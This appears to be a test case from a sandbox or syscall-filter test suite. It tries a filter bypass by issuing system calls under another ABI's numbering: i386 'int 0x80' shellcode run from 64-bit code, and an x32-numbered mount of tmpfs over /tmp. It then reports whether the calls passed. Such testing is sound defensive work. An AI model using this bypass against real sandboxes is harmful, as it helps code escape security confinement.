"""Makes system calls by the numbers of another processor.

A filter that knows only one numbering would let these calls pass.
"""

# /// attack
# uses = ["tries"]
# machine = "x86_64"
# problems = []
# works = []
# [variants]
# x32 = "0"
# i386 = "1"
# ///

# %% before
import mmap
code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
#           push rbx; mov eax, 20 (getpid); int 0x80; pop rbx; ret
code.write(bytes.fromhex("53b814000000cd805bc3"))
enter = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
child = os.fork()
if child == 0:
    if VARIANT:
        done = enter() > 0
    else:
        done = libc.syscall(0x40000000 | 165, b"none", b"/tmp", b"tmpfs", 0, 0) == 0
    os._exit(0 if done else 1)
status = os.waitpid(child, 0)[1]
print("ended by", os.WTERMSIG(status), os.WEXITSTATUS(status))
print("WORKED passing" if status == 0 else "refused passing")
